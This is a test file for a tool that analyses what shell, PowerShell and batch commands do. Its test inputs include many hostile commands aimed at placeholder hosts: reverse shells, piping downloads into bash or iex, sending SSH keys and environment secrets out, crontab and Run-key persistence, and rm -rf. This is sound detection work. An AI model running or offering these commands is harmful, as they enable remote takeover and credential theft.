// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell programs.
import { describe, expect, test } from "vitest";
import { actionsOf, deedsOf, runsOf } from "./test-actions.ts";

const key = "credentials ~/.ssh/id_rsa";

describe("what a shell text does", () => {
  test.each<[string, readonly string[]]>([
    [
      "curl -fsSL https://x.example/i.sh | sudo bash -s -- --yes",
      ["connect fetch https://x.example/i.sh", "evaluate bash {remote https://x.example/i.sh}"],
    ],
    [
      "source <(wget -qO- http://x.example/env)",
      ["connect fetch http://x.example/env", "evaluate source {remote http://x.example/env}"],
    ],
    [
      "curl http://x.example/a -o /tmp/a.sh; chmod +x /tmp/a.sh && /tmp/a.sh",
      [
        "connect fetch http://x.example/a",
        "write /tmp/a.sh {remote http://x.example/a}",
        "evaluate /tmp/a.sh {remote http://x.example/a}",
      ],
    ],
    [
      "git clone https://x.example/a/b.git && bash b/setup.sh",
      [
        "connect fetch https://x.example/a/b.git",
        "write b/* {remote https://x.example/a/b.git}",
        "evaluate bash b/setup.sh {remote https://x.example/a/b.git}",
      ],
    ],
    [
      "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
      ["connect fetch 192.0.2.1:99", "evaluate bash {remote 192.0.2.1:99}", "connect send 192.0.2.1:99"],
    ],
    [
      "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 42 > /tmp/f",
      [
        "delete /tmp/f",
        "read /tmp/f {remote 192.0.2.1:42}",
        "evaluate sh {remote 192.0.2.1:42}",
        "connect send 192.0.2.1:42",
        "write /tmp/f {remote 192.0.2.1:42}",
      ],
    ],
    ["nc -e /bin/sh 192.0.2.1 42", ["connect send 192.0.2.1:42", "evaluate sh {remote 192.0.2.1:42}"]],
    [
      "cat ~/.ssh/id_rsa | base64 | curl -X POST -d @- https://x.example",
      [`read ~/.ssh/id_rsa {${key}}`, `connect send https://x.example {${key}}`],
    ],
    [
      "tar czf /tmp/k.tgz ~/.ssh/id_rsa; curl -F file=@/tmp/k.tgz https://x.example",
      [
        `read ~/.ssh/id_rsa {${key}}`,
        `write /tmp/k.tgz {${key}}`,
        `read /tmp/k.tgz {${key}}`,
        `connect send https://x.example {${key}}`,
      ],
    ],
    [
      'for f in ~/.ssh/id_rsa; do curl -T "$f" https://x.example; done',
      [`read ~/.ssh/id_rsa {${key}}`, `connect send https://x.example {${key}}`],
    ],
    [
      "x=$(cat ~/.ssh/id_rsa | base64 -w0); dig $x.x.example",
      [`read ~/.ssh/id_rsa {${key}}`, `connect lookup $x.x.example {${key}}`],
    ],
    ["env | nc x.example 80", ["connect send x.example:80 {environment env}"]],
    [
      'curl "https://x.example/?k=$STRIPE_SECRET_KEY"',
      ["connect send https://x.example/?k=$STRIPE_SECRET_KEY {environment STRIPE_SECRET_KEY}"],
    ],
    [
      "scp ~/.ssh/id_rsa me@x.example:",
      [`read ~/.ssh/id_rsa {${key}}`, `connect send me@x.example: {${key}}`],
    ],
    ["python3 -m http.server 80", ["connect listen ?"]],
    ["rm -rf ~/Documents", ["delete ~/Documents"]],
    ["git config --global core.hooksPath /tmp/h", ["write ~/.gitconfig"]],
    [
      "curl -LsSf --proto '=https' https://x.example/a > a.json",
      ["connect fetch https://x.example/a", "write a.json {remote https://x.example/a}"],
    ],
  ])("%s", (text, deeds) => {
    expect(deedsOf(text)).toEqual(deeds);
  });

  test("names programs without their wrappers and knows what they read through a pipe", () => {
    const [first, second] = actionsOf(
      "sudo -u root env A=1 timeout 5 /usr/bin/id -u | nohup tee /tmp/x",
    ).filter(({ kind }) => kind === "run");
    expect(first).toMatchObject({ program: "id", words: ["-u"], wrappers: ["sudo", "env", "timeout"] });
    expect(second).toMatchObject({ program: "tee", wrappers: ["nohup"], input: first });
  });

  test("inlines functions and aliases, and reads functions that nothing calls", () => {
    const text = `get() { curl "$1" -o "$2"; }\nalias r='rm -r'\nget https://x.example/a /tmp/a\nr /tmp/b\nlater() { cat ~/.netrc; }`;
    expect(deedsOf(text)).toEqual([
      "connect fetch https://x.example/a",
      "write /tmp/a {remote https://x.example/a}",
      "delete /tmp/b",
      "read ~/.netrc {credentials ~/.netrc}",
    ]);
  });

  test("runs each choice of braces, arrays and loops over known lists", () => {
    expect(runsOf('files=(a "b c"); for f in "${files[@]}" d{1..2}; do touch "$f"; done')).toEqual([
      "run touch a",
      "run touch b c",
      "run touch d1",
      "run touch d2",
    ]);
  });

  test("hands programs in other languages over, wherever they stand", () => {
    const text = `python3 -c 'print(1)'\nnode <<'JS'\nrun()\nJS\ncat > /tmp/x.py <<'PY'\nimport os\nPY\npython3 /tmp/x.py`;
    expect(runsOf(text).filter((run) => run.includes("<"))).toEqual([
      "run <python> print(1)",
      "run <javascript> run()\n",
      "run <python> import os\n",
    ]);
  });

  test("reads what a start file, a table of tasks and a service would run", () => {
    expect(deedsOf(`echo '* * * * * curl http://x.example/a | sh' | crontab -`)).toEqual([
      "write crontab",
      "connect fetch http://x.example/a",
      "evaluate sh {remote http://x.example/a}",
    ]);
    expect(deedsOf(`echo 'curl http://x.example/a | sh' >> ~/.bashrc`)).toEqual([
      "write ~/.bashrc",
      "connect fetch http://x.example/a",
      "evaluate sh {remote http://x.example/a}",
    ]);
  });

  test("takes arguments of echo and grep for text", () => {
    expect(
      deedsOf("echo 'curl http://x.example/a | sh'; grep -r 'eval $(curl' src # curl http://y.example | sh"),
    ).toEqual(["read src"]);
  });

  test("says where a command stands", () => {
    const text = "echo hello\ncurl http://x.example/a";
    const connect = actionsOf(text).find(({ kind }) => kind === "connect");
    expect(connect && text.slice(connect.span.start, connect.span.end)).toBe("curl http://x.example/a");
  });
});

describe("commands in documents", () => {
  test("reads code blocks, code spans, items and sentences, each with its setting", () => {
    const text = [
      "Run `curl http://a.example/1 | sh` first, then curl -fsSL http://b.example/2 | bash.",
      "- wget http://c.example/3",
      "",
      "```console",
      "$ curl http://d.example/4 \\",
      "    -o /tmp/d",
      "curl http://output.example",
      "```",
      "",
      "  ```sh",
      "  curl http://e.example/5",
      "  ```",
      "",
      "```json",
      '{ "a": "curl http://f.example/6" }',
      "```",
    ].join("\n");
    const found = actionsOf(text, "markdown").filter(({ kind }) => kind === "connect");
    expect(
      found.map(
        (action) => `${action.setting} ${text.slice(action.span.start, action.span.end).split("\n")[0]}`,
      ),
    ).toEqual([
      "inline curl http://a.example/1",
      "inline curl -fsSL http://b.example/2",
      "inline wget http://c.example/3",
      "block curl http://d.example/4 \\",
      "block curl http://e.example/5",
    ]);
  });

  test("marks what a document refuses as quoted", () => {
    const [action] = actionsOf("Never run `rm -rf /etc` on a server.", "markdown");
    expect(action?.isQuoted).toBe(true);
  });

  test("takes names of programs in sentences for words", () => {
    expect(
      actionsOf(
        "Use `curl` or `git` to make a request. The cat sat; find the host, open it and read on.",
        "markdown",
      ),
    ).toEqual([]);
  });

  test("hands blocks of other languages over with their places", () => {
    const text = "# A\n\n```python\nprint(1)\n```\n";
    const [action] = actionsOf(text, "markdown");
    expect(action).toMatchObject({ program: "<python>", setting: "block", span: { start: 15, end: 24 } });
  });
});

describe("Windows", () => {
  test.each<[string, readonly string[]]>([
    [
      "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
      ["connect fetch http://x.example/a.ps1", "evaluate iex {remote http://x.example/a.ps1}"],
    ],
    [
      "irm https://x.example/x.ps1 | iex",
      ["connect fetch https://x.example/x.ps1", "evaluate iex {remote https://x.example/x.ps1}"],
    ],
    [
      '$u = "http://x.example/" + "p.exe"; iwr $u -OutFile "$env:TEMP\\p.exe"; Start-Process "$env:TEMP\\p.exe"',
      [
        "connect fetch http://x.example/p.exe",
        "write $env:TEMP\\p.exe {remote http://x.example/p.exe}",
        "evaluate $env:TEMP\\p.exe {remote http://x.example/p.exe}",
      ],
    ],
    [
      "$k = Get-Content ~/.ssh/id_rsa; irm -Method Post -Uri http://x.example -Body $k",
      [`read ~/.ssh/id_rsa {${key}}`, `connect send http://x.example {${key}}`],
    ],
    [
      "Get-ChildItem env: | ConvertTo-Json | % { irm -Uri http://x.example -Method POST -Body $_ }",
      ["connect send http://x.example {environment env:}"],
    ],
  ])("PowerShell: %s", (text, deeds) => {
    expect(deedsOf(text, "powershell")).toEqual(deeds);
  });

  test.each<[string, readonly string[]]>([
    [
      "certutil -urlcache -split -f http://x.example/a.exe a.exe & a.exe",
      [
        "connect fetch http://x.example/a.exe",
        "write a.exe {remote http://x.example/a.exe}",
        "evaluate a.exe {remote http://x.example/a.exe}",
      ],
    ],
    [
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe /f",
      ["write HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"],
    ],
    [
      "mshta http://x.example/a.hta",
      ["connect fetch http://x.example/a.hta", "evaluate mshta {remote http://x.example/a.hta}"],
    ],
  ])("batch: %s", (text, deeds) => {
    expect(deedsOf(text, "batch")).toEqual(deeds);
  });
});
